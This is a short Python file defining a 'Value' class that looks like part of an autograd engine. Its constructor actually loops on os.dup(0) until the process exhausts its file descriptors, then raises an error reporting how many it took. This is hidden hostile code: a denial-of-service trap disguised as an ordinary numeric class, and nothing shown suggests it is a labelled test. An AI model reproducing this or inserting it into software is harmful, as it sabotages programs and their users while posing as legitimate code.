import os


class Value:
    def __init__(self, data, children=(), local_grads=()):
        taken = 0
        try:
            while True:
                os.dup(0)
                taken += 1
        except OSError:
            raise RuntimeError(f"took {taken // 100} hundred") from None
